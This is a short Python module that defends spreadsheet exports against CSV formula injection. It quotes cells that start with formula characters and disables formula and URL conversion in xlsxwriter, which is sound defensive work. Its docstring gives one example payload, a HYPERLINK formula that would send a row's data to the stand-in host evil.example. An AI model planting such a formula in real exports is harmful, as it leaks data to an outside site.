"""Spreadsheet exports that cannot carry a formula in (CSV injection, OWASP).

A cell starting with = + - @ (or a tab or carriage return, which some spreadsheets skip before
one) is read by Excel and LibreOffice as a formula: an application titled
`=HYPERLINK("https://evil.example/?x="&A2;"Klicka")` would become a live link that sends the
row to another site. Text that starts so gets a leading apostrophe, OWASP's advice; numbers,
negative amounts among them, stay numbers."""

import csv
import io
import re
from collections.abc import Iterable
from typing import IO, Any

import xlsxwriter

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A plain number as the exports write it (a decimal comma or point): not a formula.
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def inert(value: Any) -> Any:
    """`value` as a spreadsheet cannot run it: text that would start a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """Rows as CSV the way Excel in a Swedish locale opens it: a byte-order mark, semicolons,
    CRLF; every cell made inert."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    for row in rows:
        writer.writerow([inert(value) for value in row])
    return out.getvalue()


def workbook(target: IO[bytes]) -> xlsxwriter.Workbook:
    """An Excel workbook in which `write()` of text writes text: never a formula or a link."""
    return xlsxwriter.Workbook(
        target,
        {
            "in_memory": True,
            "remove_timezone": True,
            "strings_to_formulas": False,
            "strings_to_urls": False,
        },
    )
